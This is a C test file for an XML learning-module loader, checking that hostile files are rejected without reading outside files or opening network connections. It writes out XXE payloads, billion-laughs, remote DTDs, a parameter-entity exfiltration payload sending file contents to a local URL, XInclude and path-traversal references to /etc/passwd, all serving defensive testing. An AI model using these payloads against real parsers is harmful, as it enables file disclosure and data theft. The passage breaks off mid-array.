/* test-hostile.c: module files written to attack the reader
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 *
 * Every input is generated into a temporary folder. Each case checks that the file is
 * rejected with a clear diagnostic, that nothing outside the module folder was opened
 * (inotify on a "secret" file) and that no network connection was attempted: socket() and
 * connect() are defined in this program, so the shared libraries (libxml2, GIO) call these
 * instead of the C library's.
 */

#include "config.h"

#include <errno.h>
#include <fcntl.h>
#include <stdlib.h>
#include <sys/inotify.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include <glib/gstdio.h>
#include <libxml/nanohttp.h>
#include <libxml/parser.h>

#include <bekal/bekal-model.h>

#include "bekal-loader-private.h"
#include "test-util.h"

#define HUGE_FILE_SIZE  (40 * 1024 * 1024)
#define MAX_RSS_GROWTH  (20 * 1024 * 1024)
#define NESTING_DEPTH   100000

typedef struct
{
  char  *tmp;
  char  *folder;      /* the module folder */
  char  *path;        /* folder/module.id.xml */
  char  *secret;      /* a file outside the module folder */
  char  *marker;      /* the unique text in the secret file */
  int    inotify_fd;
  guint  refused_before;
  int    sockets_before;
} Hostile;

static int socket_calls;
static int connect_calls;

/* Interposed network calls: recorded, and refused */

int
socket (int domain,
        int type,
        int protocol)
{
  g_atomic_int_inc (&socket_calls);
  errno = EACCES;
  return -1;
}

int
connect (int                   fd,
         __CONST_SOCKADDR_ARG  address,
         socklen_t             length)
{
  g_atomic_int_inc (&connect_calls);
  errno = EACCES;
  return -1;
}

static int
network_calls (void)
{
  return g_atomic_int_get (&socket_calls) + g_atomic_int_get (&connect_calls);
}

/* Helpers */

static guint
count_inotify_events (int fd)
{
  char buffer[4096] __attribute__ ((aligned (__alignof__ (struct inotify_event))));
  guint n = 0;

  for (;;)
    {
      gssize length = read (fd, buffer, sizeof buffer);

      if (length <= 0)
        break;

      for (char *p = buffer; p < buffer + length;)
        {
          const struct inotify_event *event = (const struct inotify_event *) p;

          if (event->mask & (IN_OPEN | IN_ACCESS))
            n++;
          p += sizeof (struct inotify_event) + event->len;
        }
    }

  return n;
}

static void
write_bytes (const char *path,
             const char *contents,
             gssize      length)
{
  g_autoptr(GError) error = NULL;

  g_file_set_contents (path, contents, length, &error);
  g_assert_no_error (error);
}

static char *
read_minimal (void)
{
  g_autofree char *path = g_build_filename (test_fixtures_dir (), "valid", "minimal",
                                            "module.id.xml", NULL);
  char *contents = NULL;

  g_assert_true (g_file_get_contents (path, &contents, NULL, NULL));
  return contents;
}

static char *
replace_once (const char *text,
              const char *old,
              const char *replacement)
{
  const char *found = strstr (text, old);

  g_assert_nonnull (found);
  return g_strdup_printf ("%.*s%s%s", (int) (found - text), text, replacement,
                          found + strlen (old));
}

/* The minimal module with @doctype after the XML declaration and its first paragraph
 * replaced by @paragraph (both optional) */
static char *
minimal_with (const char *doctype,
              const char *paragraph)
{
  g_autofree char *minimal = read_minimal ();
  g_autofree char *with_paragraph = NULL;
  const char *after_declaration;

  if (paragraph)
    with_paragraph = replace_once (minimal,
                                   "<p>Seorang <term ref=\"peksos\">peksos</term> mendampingi "
                                   "klien.</p>",
                                   paragraph);
  else
    with_paragraph = g_strdup (minimal);

  after_declaration = strchr (with_paragraph, '\n');
  g_assert_nonnull (after_declaration);

  return g_strdup_printf ("%.*s\n%s%s", (int) (after_declaration - with_paragraph),
                          with_paragraph, doctype ? doctype : "", after_declaration + 1);
}

static gboolean
text_contains (BekalText  *text,
               const char *needle)
{
  return text != NULL && strstr (bekal_text_get_plain (text), needle) != NULL;
}

/* Whether any text of the model contains @needle */
static gboolean
module_contains (BekalModule *module,
                 const char  *needle)
{
  if (strstr (bekal_module_get_title (module), needle)
      || strstr (bekal_module_get_summary (module), needle))
    return TRUE;

  for (guint i = 0; i < bekal_module_get_n_lessons (module); i++)
    {
      BekalLesson *lesson = bekal_module_get_lesson (module, i);

      if (strstr (bekal_lesson_get_title (lesson), needle))
        return TRUE;

      for (guint j = 0; j < bekal_lesson_get_n_blocks (lesson); j++)
        {
          BekalBlock *block = bekal_lesson_get_block (lesson, j);

          if (text_contains (bekal_block_get_text (block), needle))
            return TRUE;
          for (guint k = 0; k < bekal_block_get_n_items (block); k++)
            if (text_contains (bekal_block_get_item (block, k), needle))
              return TRUE;
        }
    }

  for (guint i = 0; i < bekal_module_get_n_quizzes (module); i++)
    {
      BekalQuiz *quiz = bekal_module_get_quiz (module, i);

      for (guint j = 0; j < bekal_quiz_get_n_questions (quiz); j++)
        {
          BekalQuestion *question = bekal_quiz_get_question (quiz, j);

          if (text_contains (bekal_question_get_prompt (question), needle)
              || text_contains (bekal_question_get_explanation (question), needle))
            return TRUE;
          for (guint k = 0; k < bekal_question_get_n_options (question); k++)
            {
              BekalOption *option = bekal_question_get_option (question, k);

              if (text_contains (bekal_option_get_text (option), needle)
                  || text_contains (bekal_option_get_feedback (option), needle))
                return TRUE;
            }
        }
    }

  return FALSE;
}

static BekalModule *
load (Hostile    *h,
      GPtrArray  *diagnostics,
      GError    **error)
{
  g_autofree char *media = test_source_path ("media");
  const char *media_dirs[] = { media, NULL };
  g_autoptr(BekalLoader) loader = bekal_loader_new (media_dirs);

  return bekal_loader_load_file (loader, h->path, diagnostics, error);
}

/* Checks what holds for every case: nothing outside was opened, nothing went to the network,
 * and the secret appears nowhere */
static void
assert_contained (Hostile     *h,
                  GPtrArray   *diagnostics,
                  BekalModule *module)
{
  g_assert_cmpint (network_calls (), ==, h->sockets_before);
  g_assert_cmpuint (bekal_loader_get_refused_loads (), >=, h->refused_before);
  g_assert_cmpuint (count_inotify_events (h->inotify_fd), ==, 0);

  for (guint i = 0; i < diagnostics->len; i++)
    {
      const BekalDiagnostic *d = g_ptr_array_index (diagnostics, i);

      g_assert_null (strstr (bekal_diagnostic_get_message (d), h->marker));
      g_assert_null (strstr (bekal_diagnostic_get_message (d), "root:x:0:0"));
    }

  if (module)
    {
      g_assert_false (module_contains (module, h->marker));
      g_assert_false (module_contains (module, "root:x:0:0"));
    }
}

/* Loads the hostile file and checks that it is rejected with a clear error that mentions
 * @needle (when given) */
static void
assert_rejected (Hostile    *h,
                 const char *needle)
{
  g_autoptr(GPtrArray) diagnostics = bekal_diagnostics_new ();
  g_autoptr(GError) error = NULL;
  g_autoptr(BekalModule) module = NULL;
  gboolean found = needle == NULL;

  module = load (h, diagnostics, &error);
  test_dump_diagnostics (diagnostics);

  /* first what matters most: nothing leaked out, whatever the verdict */
  assert_contained (h, diagnostics, module);

  g_assert_null (module);
  g_assert_error (error, BEKAL_LOADER_ERROR, BEKAL_LOADER_ERROR_INVALID);
  g_assert_true (bekal_diagnostics_has_errors (diagnostics));

  for (guint i = 0; i < diagnostics->len; i++)
    {
      const BekalDiagnostic *d = g_ptr_array_index (diagnostics, i);

      g_assert_cmpstr (bekal_diagnostic_get_file (d), ==, h->path);
      g_assert_cmpstr (bekal_diagnostic_get_message (d), !=, "");
      if (needle && bekal_diagnostic_get_severity (d) == BEKAL_SEVERITY_ERROR
          && strstr (bekal_diagnostic_get_message (d), needle))
        found = TRUE;
    }
  g_assert_true (found);
}

static void
write_module (Hostile    *h,
              const char *contents,
              gssize      length)
{
  write_bytes (h->path, contents, length);
}

/* Fixture */

static void
hostile_setup (Hostile       *h,
               gconstpointer  data)
{
  g_autofree char *outside = NULL;
  g_autofree char *secret_text = NULL;

  h->tmp = test_make_tmp_dir ();
  h->folder = g_build_filename (h->tmp, "modul", NULL);
  h->path = g_build_filename (h->folder, "module.id.xml", NULL);
  outside = g_build_filename (h->tmp, "luar", NULL);
  h->secret = g_build_filename (outside, "rahasia.txt", NULL);
  h->marker = g_strdup_printf ("RAHASIA-%08x%08x", g_random_int (), g_random_int ());
  g_assert_cmpint (g_mkdir (h->folder, 0700), ==, 0);
  g_assert_cmpint (g_mkdir (outside, 0700), ==, 0);

  secret_text = g_strdup_printf ("%s\n", h->marker);
  write_bytes (h->secret, secret_text, -1);

  /* watched only after it was written */
  h->inotify_fd = inotify_init1 (IN_NONBLOCK | IN_CLOEXEC);
  g_assert_cmpint (h->inotify_fd, >=, 0);
  g_assert_cmpint (inotify_add_watch (h->inotify_fd, h->secret, IN_OPEN | IN_ACCESS), >=, 0);

  h->refused_before = bekal_loader_get_refused_loads ();
  h->sockets_before = network_calls ();
}

static void
hostile_teardown (Hostile       *h,
                  gconstpointer  data)
{
  close (h->inotify_fd);
  test_remove_tree (h->tmp);
  g_free (h->tmp);
  g_free (h->folder);
  g_free (h->path);
  g_free (h->secret);
  g_free (h->marker);
}

/* The checks themselves can fail */

static void
ignore_libxml_message (void       *context,
                       const char *format,
                       ...)
{
}

static void
test_interposition_works (void)
{
  int before = network_calls ();
  g_autoptr(GError) error = NULL;
  g_autoptr(GSocket) gsocket = NULL;
  void *http;

  /* libxml2's own HTTP client reaches our socket() (and prints why it failed) */
  xmlSetGenericErrorFunc (NULL, ignore_libxml_message);
  http = xmlNanoHTTPOpen ("http://127.0.0.1:9/x.dtd", NULL);
  xmlSetGenericErrorFunc (NULL, NULL);
  g_assert_null (http);
  g_assert_cmpint (network_calls (), >, before);

  /* and so does GIO */
  before = network_calls ();
  gsocket = g_socket_new (G_SOCKET_FAMILY_IPV4, G_SOCKET_TYPE_STREAM, G_SOCKET_PROTOCOL_TCP,
                          &error);
  g_assert_null (gsocket);
  g_assert_nonnull (error);
  g_assert_cmpint (network_calls (), >, before);
}

static void
test_inotify_works (Hostile       *h,
                    gconstpointer  data)
{
  g_autofree char *contents = NULL;

  g_assert_cmpuint (count_inotify_events (h->inotify_fd), ==, 0);
  g_assert_true (g_file_get_contents (h->secret, &contents, NULL, NULL));
  g_assert_cmpuint (count_inotify_events (h->inotify_fd), >, 0);
}

/* Entities and DTDs */

static void
test_external_entity_file_uri (Hostile       *h,
                               gconstpointer  data)
{
  g_autofree char *doctype = g_strdup_printf ("<!DOCTYPE module [\n"
                                              "  <!ENTITY rahasia SYSTEM \"file://%s\">\n"
                                              "]>\n", h->secret);
  g_autofree char *contents = minimal_with (doctype, "<p>Isi: &rahasia;</p>");

  write_module (h, contents, -1);
  assert_rejected (h, "DOCTYPE");
}

static void
test_external_entity_path (Hostile       *h,
                           gconstpointer  data)
{
  g_autofree char *doctype = g_strdup_printf ("<!DOCTYPE module [\n"
                                              "  <!ENTITY rahasia SYSTEM \"%s\">\n"
                                              "]>\n", h->secret);
  g_autofree char *contents = minimal_with (doctype, "<p>Isi: &rahasia;</p>");

  write_module (h, contents, -1);
  assert_rejected (h, "DOCTYPE");
}

static void
test_external_entity_in_attribute (Hostile       *h,
                                   gconstpointer  data)
{
  g_autofree char *doctype = g_strdup_printf ("<!DOCTYPE module [\n"
                                              "  <!ENTITY rahasia SYSTEM \"%s\">\n"
                                              "]>\n", h->secret);
  g_autofree char *with_doctype = minimal_with (doctype, NULL);
  g_autofree char *contents = replace_once (with_doctype, "<term ref=\"peksos\">",
                                            "<term ref=\"&rahasia;\">");

  write_module (h, contents, -1);
  assert_rejected (h, "DOCTYPE");
}

static void
test_billion_laughs (Hostile       *h,
                     gconstpointer  data)
{
  g_autoptr(GString) doctype = g_string_new ("<!DOCTYPE module [\n"
                                             "  <!ENTITY lol \"lol\">\n");
  g_autofree char *contents = NULL;

  /* lol1 is ten lol, lol2 ten lol1, ... lol10 is 10^10 times "lol" */
  for (guint i = 1; i <= 10; i++)
    {
      g_autofree char *previous = i == 1 ? g_strdup ("lol") : g_strdup_printf ("lol%u", i - 1);

      g_string_append_printf (doctype, "  <!ENTITY lol%u \"", i);
      for (guint j = 0; j < 10; j++)
        g_string_append_printf (doctype, "&%s;", previous);
      g_string_append (doctype, "\">\n");
    }
  g_string_append (doctype, "]>\n");

  contents = minimal_with (doctype->str, "<p>&lol10;</p>");
  write_module (h, contents, -1);
  assert_rejected (h, "DOCTYPE");
}

static void
test_external_dtd_http (Hostile       *h,
                        gconstpointer  data)
{
  g_autofree char *contents =
    minimal_with ("<!DOCTYPE module SYSTEM \"http://127.0.0.1:9/x.dtd\">\n", NULL);

  write_module (h, contents, -1);
  assert_rejected (h, "DTD");
}

static void
test_external_dtd_file (Hostile       *h,
                        gconstpointer  data)
{
  g_autofree char *doctype = g_strdup_printf ("<!DOCTYPE module PUBLIC \"-//X//Y\" \"%s\">\n",
                                              h->secret);
  g_autofree char *contents = minimal_with (doctype, NULL);

  write_module (h, contents, -1);
  assert_rejected (h, "DTD");
}

static void
test_parameter_entity_remote (Hostile       *h,
                              gconstpointer  data)
{
  g_autofree char *contents =
    minimal_with ("<!DOCTYPE module [\n"
                  "  <!ENTITY % remote SYSTEM \"http://127.0.0.1:9/x.dtd\">\n"
                  "  %remote;\n"
                  "]>\n", NULL);

  write_module (h, contents, -1);
  assert_rejected (h, "DOCTYPE");
}

/* The classic out-of-band exfiltration: read a file into a parameter entity and send it
 * in a URL */
static void
test_parameter_entity_exfiltration (Hostile       *h,
                                    gconstpointer  data)
{
  g_autofree char *doctype =
    g_strdup_printf ("<!DOCTYPE module [\n"
                     "  <!ENTITY %% file SYSTEM \"file://%s\">\n"
                     "  <!ENTITY %% eval \"<!ENTITY &#x25; exfil SYSTEM "
                     "'http://127.0.0.1:9/?x=%%file;'>\">\n"
                     "  %%eval;\n"
                     "  %%exfil;\n"
                     "]>\n", h->secret);
  g_autofree char *contents = minimal_with (doctype, NULL);

  write_module (h, contents, -1);
  assert_rejected (h, "DOCTYPE");
}

/* XInclude is never processed: the element is unknown to the format */
static void
test_xinclude (Hostile       *h,
               gconstpointer  data)
{
  const char *targets[] = { "/etc/passwd", h->secret };

  for (guint i = 0; i < G_N_ELEMENTS (targets); i++)
    {
      g_autofree char *include =
        g_strdup_printf ("<p>Isi: <xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" "
                         "href=\"%s\" parse=\"text\"/></p>\n"
                         "    <xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" "
                         "href=\"%s\"/>", targets[i], targets[i]);
      g_autofree char *contents = minimal_with (NULL, include);

      write_module (h, contents, -1);
      assert_rejected (h, NULL);
    }
}

/* Encodings and broken files */

static void
test_invalid_utf8 (Hostile       *h,
                   gconstpointer  data)
{
  g_autofree char *contents = minimal_with (NULL, "<p>Bukan UTF-8: \xff\xfe\xc3(</p>");

  write_module (h, contents, -1);
  assert_rejected (h, "UTF-8");
}

static void
test_latin1 (Hostile       *h,
             gconstpointer  data)
{
  g_autofree char *minimal = minimal_with (NULL, "<p>Kafe: caf\xe9, na\xefve.</p>");
  g_autofree char *contents = replace_once (minimal, "encoding=\"UTF-8\"",
                                            "encoding=\"ISO-8859-1\"");

  write_module (h, contents, -1);
  assert_rejected (h, "UTF-8");
}

static void
test_utf16 (Hostile       *h,
            gconstpointer  data)
{
  g_autofree char *minimal = read_minimal ();
  g_autofree char *declared = replace_once (minimal, "encoding=\"UTF-8\"", "encoding=\"UTF-16\"");
  g_autoptr(GError) error = NULL;
  gsize length = 0;
  g_autofree char *utf16 = g_convert (declared, -1, "UTF-16LE", "UTF-8", NULL, &length, &error);
  g_autofree char *contents = g_malloc (length + 2);

  g_assert_no_error (error);
  /* with a byte order mark, as editors write it */
  contents[0] = (char) 0xff;
  contents[1] = (char) 0xfe;
  memcpy (contents + 2, utf16, length);

  write_module (h, contents, length + 2);
  assert_rejected (h, NULL);
}

static void
test_empty (Hostile       *h,
            gconstpointer  data)
{
  write_module (h, "", 0);
  assert_rejected (h, "empty");
}

static void
test_only_whitespace (Hostile       *h,
                      gconstpointer  data)
{
  write_module (h, "\n   \n\t\n", -1);
  assert_rejected (h, NULL);
}

static void
test_truncated (Hostile       *h,
                gconstpointer  data)
{
  g_autofree char *example = test_source_path ("examples/contoh-semua-elemen/module.id.xml");
  g_autofree char *contents = NULL;
  gsize length = 0;

  g_assert_true (g_file_get_contents (example, &contents, &length, NULL));
  /* cut in half, and not inside a UTF-8 sequence */
  length /= 2;
  while (length > 0 && ((guchar) contents[length] & 0xc0) == 0x80)
    length--;

  write_module (h, contents, length);
  assert_rejected (h, NULL);
}

static void
test_garbage (Hostile       *h,
              gconstpointer  data)
{
  g_autoptr(GRand) rand = g_rand_new_with_seed (20240611);
  gsize length = 64 * 1024;
  g_autofree char *contents = g_malloc (length);

  for (gsize i = 0; i < length; i++)
    contents[i] = (char) g_rand_int_range (rand, 0, 256);

  write_module (h, contents, length);
  assert_rejected (h, NULL);
}

static void
test_garbage_after_declaration (Hostile       *h,
                                gconstpointer  data)
{
  g_autoptr(GRand) rand = g_rand_new_with_seed (7);
  g_autoptr(GString) contents = g_string_new ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
                                              "<module xmlns=\"urn:bekal:module:1\">");

  /* printable ASCII noise: valid UTF-8, but not a module */
  for (guint i = 0; i < 16 * 1024; i++)
    g_string_append_c (contents, (char) g_rand_int_range (rand, 32, 127));

  write_module (h, contents->str, contents->len);
  assert_rejected (h, NULL);
}

static void
test_deep_nesting (Hostile       *h,
                   gconstpointer  data)
{
  g_autoptr(GString) contents = g_string_new ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
                                              "<module xmlns=\"urn:bekal:module:1\" id=\"x\" "
                                              "version=\"1\" xml:lang=\"id\">\n");

  for (guint i = 0; i < NESTING_DEPTH; i++)
    g_string_append (contents, "<p>");
  for (guint i = 0; i < NESTING_DEPTH; i++)
    g_string_append (contents, "</p>");
  g_string_append (contents, "</module>\n");

  write_module (h, contents->str, contents->len);
  assert_rejected (h, "64");
}

/* A sparse module file of @size bytes: a start of a module, then zero bytes */
static char *
make_sparse_module (const char *tmp,
                    goffset     size)
{
  char *path = g_build_filename (tmp, "module.id.xml", NULL);
  const char *head = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
                     "<module xmlns=\"urn:bekal:module:1\" id=\"besar\" version=\"1\" "
                     "xml:lang=\"id\">\n";
  GStatBuf st;
  int fd;

  fd = g_open (path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
  g_assert_cmpint (fd, >=, 0);
  g_assert_cmpint (write (fd, head, strlen (head)), ==, (gssize) strlen (head));
  /* the rest is a hole, so the test writes almost nothing */
  g_assert_cmpint (ftruncate (fd, size), ==, 0);
  close (fd);
  g_assert_cmpint (g_stat (path, &st), ==, 0);
  g_assert_cmpint (st.st_size, ==, size);

  return path;
}

/* Loads a sparse file of @size bytes and returns how much the peak memory grew, in bytes */
static glong
load_sparse_module (goffset     size,
                    GPtrArray  *diagnostics,
                    char      **path_out)
{
  g_autofree char *tmp = test_make_tmp_dir ();
  g_autofree char *path = make_sparse_module (tmp, size);
  g_autoptr(BekalLoader) loader = bekal_loader_new (NULL);
  g_autoptr(GError) error = NULL;
  g_autoptr(BekalModule) module = NULL;
  struct rusage before, after;

  g_assert_cmpint (getrusage (RUSAGE_SELF, &before), ==, 0);
  module = bekal_loader_load_file (loader, path, diagnostics, &error);
  g_assert_cmpint (getrusage (RUSAGE_SELF, &after), ==, 0);
  test_dump_diagnostics (diagnostics);
  g_test_message ("peak RSS before %ld KiB, after %ld KiB", before.ru_maxrss, after.ru_maxrss);

  g_assert_null (module);
  g_assert_error (error, BEKAL_LOADER_ERROR, BEKAL_LOADER_ERROR_INVALID);
  g_assert_cmpint (network_calls (), ==, 0);

  test_remove_tree (tmp);
  *path_out = g_steal_pointer (&path);

  /* ru_maxrss is in KiB */
  return (after.ru_maxrss - before.ru_maxrss) * 1024;
}

/* The file is rejected from its size, before it is read. Runs in a subprocess so that the
 * peak memory starts from a fresh process. */
static void
test_huge_file (void)
{
  g_autoptr(GPtrArray) diagnostics = NULL;
  g_autofree char *path = NULL;
  const BekalDiagnostic *d;
  glong growth;

  if (!g_test_subprocess ())
    {
      g_test_trap_subprocess (NULL, 0, G_TEST_SUBPROCESS_INHERIT_STDERR);
      g_test_trap_assert_passed ();
      return;
    }

  diagnostics = bekal_diagnostics_new ();
  growth = load_sparse_module (HUGE_FILE_SIZE, diagnostics, &path);
  g_assert_cmpint (growth, <, MAX_RSS_GROWTH);

  g_assert_cmpuint (diagnostics->len, ==, 1);
  d = g_ptr_array_index (diagnostics, 0);
  g_assert_cmpint (bekal_diagnostic_get_severity (d), ==, BEKAL_SEVERITY_ERROR);
  g_assert_cmpstr (bekal_diagnostic_get_file (d), ==, path);
  g_assert_nonnull (strstr (bekal_diagnostic_get_message (d), "too large"));
}

/* The measure above can fail: a file under the limit is read, and the peak grows */
static void
test_rss_measure_works (void)
{
  g_autoptr(GPtrArray) diagnostics = NULL;
  g_autofree char *path = NULL;

  if (!g_test_subprocess ())
    {
      g_test_trap_subprocess (NULL, 0, G_TEST_SUBPROCESS_INHERIT_STDERR);
      g_test_trap_assert_passed ();
      return;
    }

  diagnostics = bekal_diagnostics_new ();
  g_assert_cmpint (load_sparse_module (BEKAL_LOADER_MAX_FILE_SIZE - 1024 * 1024, diagnostics,
                                       &path), >=, MAX_RSS_GROWTH);
  /* the zero bytes are refused once read */
  g_assert_true (bekal_diagnostics_has_errors (diagnostics));
}

/* Not a module */

static void
test_wrong_root (Hostile       *h,
                 gconstpointer  data)
{
  const char *contents = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
                         "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>x</text></svg>\n";

  write_module (h, contents, -1);
  assert_rejected (h, "<svg>");
}

static void
test_wrong_namespace (Hostile       *h,
                      gconstpointer  data)
{
  g_autofree char *minimal = read_minimal ();
  g_autofree char *contents = replace_once (minimal, "xmlns=\"urn:bekal:module:1\"",
                                            "xmlns=\"http://www.w3.org/1999/xhtml\"");

  write_module (h, contents, -1);
  assert_rejected (h, "namespace");
}

static void
test_no_namespace (Hostile       *h,
                   gconstpointer  data)
{
  g_autofree char *minimal = read_minimal ();
  g_autofree char *contents = replace_once (minimal, " xmlns=\"urn:bekal:module:1\"", "");

  write_module (h, contents, -1);
  assert_rejected (h, "namespace");
}

/* File references that leave the module */

static void
assert_reference_rejected (Hostile    *h,
                           const char *element,
                           const char *needle)
{
  g_autofree char *contents = minimal_with (NULL, element);

  write_module (h, contents, -1);
  assert_rejected (h, needle);
}

static void
test_path_traversal (Hostile       *h,
                     gconstpointer  data)
{
  /* the diagnostic names the reference; the secret file, seen from the module folder, first */
  assert_reference_rejected (h, "<figure src=\"../luar/rahasia.txt\">"
                                "<caption>x</caption></figure>", "../luar/rahasia.txt");
  assert_reference_rejected (h, "<figure src=\"../../../../../../etc/passwd\">"
                                "<caption>x</caption></figure>", "../../../../../../etc/passwd");
  assert_reference_rejected (h, "<figure src=\"gambar/../../luar/rahasia.txt\">"
                                "<caption>x</caption></figure>", "gambar/../../luar/rahasia.txt");
  assert_reference_rejected (h, "<figure src=\"..\\..\\etc\\passwd\">"
                                "<caption>x</caption></figure>", "..\\..\\etc\\passwd");
  /* and through the media folders */
  assert_reference_rejected (h, "<figure src=\"media:../../../../etc/passwd\">"
                                "<caption>x</caption></figure>", "media:../../../../etc/passwd");
  assert_reference_rejected (h, "<video id=\"v\" src=\"media:sub/../../x.webm\">"
                                "<title>x</title></video>", "media:sub/../../x.webm");
}

static void
test_absolute_path (Hostile       *h,
                    gconstpointer  data)
{
  g_autofree char *figure =
    g_strdup_printf ("<figure src=\"%s\"><caption>x</caption></figure>", h->secret);
  g_autofree char *subtitles =
    g_strdup_printf ("<video id=\"v\" src=\"media:sampel-01-orientasi.webm\"><title>x</title>"
                     "<subtitles xml:lang=\"id\" src=\"%s\"/></video>", h->secret);

  assert_reference_rejected (h, figure, h->secret);
  assert_reference_rejected (h, subtitles, h->secret);
  assert_reference_rejected (h, "<figure src=\"/etc/passwd\"><caption>x</caption></figure>",
                             "/etc/passwd");
  assert_reference_rejected (h, "<figure src=\"media:/etc/passwd\"><caption>x</caption>"
                                "</figure>", "media:/etc/passwd");
  assert_reference_rejected (h, "<figure src=\"C:\\Windows\\win.ini\"><caption>x</caption>"
                                "</figure>", "C:\\Windows\\win.ini");
}

static void
test_symlink_out (Hostile       *h,
                  gconstpointer  data)
{
  g_autofree char *link = g_build_filename (h->folder, "gambar.svg", NULL);

  g_assert_cmpint (symlink (h->secret, link), ==, 0);
  assert_reference_rejected (h, "<figure src=\"gambar.svg\"><caption>x</caption></figure>",
                             "gambar.svg");
}

static void
test_url_media (Hostile       *h,
                gconstpointer  data)
{
  assert_reference_rejected (h, "<video id=\"v\" src=\"http://127.0.0.1:9/v.webm\">"
                                "<title>x</title></video>", "http://127.0.0.1:9/v.webm");
  assert_reference_rejected (h, "<video id=\"v\" src=\"media:sampel-01-orientasi.webm\" "
                                "poster=\"https://127.0.0.1:9/p.jpg\"><title>x</title></video>",
                             "https://127.0.0.1:9/p.jpg");
  assert_reference_rejected (h, "<audio id=\"a\" src=\"media:sampel-podcast-01.ogg\">"
                                "<title>x</title><subtitles xml:lang=\"id\" "
                                "src=\"ftp://127.0.0.1:9/s.vtt\"/></audio>",
                             "ftp://127.0.0.1:9/s.vtt");
  assert_reference_rejected (h, "<figure src=\"file:///etc/passwd\"><caption>x</caption>"
                                "</figure>", "file:///etc/passwd");
}

/* Markup in text is text */

static void
test_markup_in_text (Hostile       *h,
                     gconstpointer  data)
{
  g_autofree char *contents =
    minimal_with (NULL, "<p>&lt;b&gt;bold&lt;/b&gt; &lt;span foreground=\"red\"&gt; &amp; "
                        "<em>&lt;i&gt;</em> &lt;a href=\"http://127.0.0.1:9/\"&gt;</p>");
  g_autoptr(GPtrArray) diagnostics = bekal_diagnostics_new ();
  g_autoptr(GError) error = NULL;
  g_autoptr(BekalModule) module = NULL;
  g_autofree char *markup = NULL;
  g_autofree char *wrapped = NULL;
  g_autoptr(GError) markup_error = NULL;
  g_autoptr(GMarkupParseContext) context = NULL;
  GMarkupParser parser = { 0, };
  BekalText *text;

  write_module (h, contents, -1);
  module = load (h, diagnostics, &error);
  test_dump_diagnostics (diagnostics);
  g_assert_no_error (error);
  g_assert_nonnull (module);

  text = bekal_block_get_text (bekal_lesson_get_block (bekal_module_get_lesson (module, 0), 0));
  /* the characters are kept literally in the model */
  g_assert_cmpstr (bekal_text_get_plain (text), ==,
                   "<b>bold</b> <span foreground=\"red\"> & <i> "
                   "<a href=\"http://127.0.0.1:9/\">");

  /* and escaped in markup: only Bekal's own tags remain */
  markup = bekal_text_to_pango_markup (text);
  g_assert_nonnull (strstr (markup, "&lt;b&gt;bold&lt;/b&gt;"));
  g_assert_nonnull (strstr (markup, "&lt;span foreground=&quot;red&quot;&gt;"));
  g_assert_nonnull (strstr (markup, " &amp; "));
  g_assert_nonnull (strstr (markup, "<i>&lt;i&gt;</i>"));
  g_assert_null (strstr (markup, "<b>"));
  g_assert_null (strstr (markup, "<span"));
  g_assert_null (strstr (markup, "<a "));

  /* the markup is well-formed: a GMarkup parser reads it back without error */
  wrapped = g_strdup_printf ("<markup>%s</markup>", markup);
  context = g_markup_parse_context_new (&parser, 0, NULL, NULL);
  g_assert_true (g_markup_parse_context_parse (context, wrapped, -1, &markup_error));
  g_assert_true (g_markup_parse_context_end_parse (context, &markup_error));
  g_assert_no_error (markup_error);

  assert_contained (h, diagnostics, module);
}

/* Ids (issue 12): every attribute that holds an id refuses an empty value and one padded
 * with white space, with one message naming the attribute on its line */

static const char ids_module[] =
  "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
  "<module xmlns=\"urn:bekal:module:1\" id=\"modul-id\" version=\"1\" xml:lang=\"id\">\n"
  "  <title>T</title><summary>S</summary><meta><author>A</author></meta>\n"
  "  <topics>\n"
  "    <topic id=\"topik\">T</topic>\n"
  "  </topics>\n"
  "  <glossary>\n"
  "    <entry id=\"entri\"><term>T</term><definition>D</definition></entry>\n"
  "  </glossary>\n"
  "  <quiz id=\"pretes\" role=\"pretest\" draw=\"1\">\n"
  "    <question id=\"pq\" topic=\"topik\" type=\"truefalse\" answer=\"true\">\n"
  "      <prompt>P</prompt><explanation>E</explanation></question>\n"
  "  </quiz>\n"
  "  <lesson id=\"pelajaran\">\n"
  "    <title>L</title>\n"
  "    <p>Seorang <term ref=\"entri\">peksos</term>.</p>\n"
  "    <reflection id=\"refleksi\">R</reflection>\n"
  "    <video id=\"klip\" src=\"media:sampel-01-orientasi.webm\">\n"
  "      <title>V</title><subtitles xml:lang=\"id\" src=\"media:sampel-01-orientasi.id.vtt\"/>\n"
  "      <checkpoint at=\"0:05\" question=\"q-pilih\"/>\n"
  "    </video>\n"
  "    <quiz id=\"latihan\" role=\"practice\">\n"
  "      <question id=\"q-pilih\" topic=\"topik\" type=\"single\"><prompt>P</prompt>\n"
  "        <option id=\"a\" correct=\"true\">A</option>\n"
  "        <option id=\"b\">B</option><explanation>E</explanation></question>\n"
  "      <question id=\"q-urut\" topic=\"topik\" type=\"order\"><prompt>P</prompt>\n"
  "        <item id=\"i1\">1</item>\n"
  "        <item id=\"i2\">2</item><explanation>E</explanation></question>\n"
  "      <question id=\"q-jodoh\" topic=\"topik\" type=\"match\"><prompt>P</prompt>\n"
  "        <pair id=\"p1\"><left>A</left><right>a</right></pair>\n"
  "        <pair id=\"p2\"><left>B</left><right>b</right></pair><explanation>E</explanation>"
  "</question>\n"
  "    </quiz>\n"
  "  </lesson>\n"
  "  <quiz id=\"postes\" role=\"posttest\" pool=\"pretes\" draw=\"1\"/>\n"
  "</module>\n";

/* Each site: the text of the attribute in ids_module (unique), its name and its value */
static const struct
{
  const char *text;
  const char *attribute;
  const char *value;
} id_sites[] = {
  { "id=\"modul-id\"", "id", "modul-id" },
  { "<topic id=\"topik\"", "id", "topik" },
  { "<entry id=\"entri\"", "id", "entri" },
  { "<quiz id=\"pretes\"", "id", "pretes" },
  { "<question id=\"pq\"", "id", "pq" },
  { "<lesson id=\"pelajaran\"", "id", "pelajaran" },
  { "ref=\"entri\"", "ref", "entri" },
  { "<reflection id=\"refleksi\"", "id", "refleksi" },
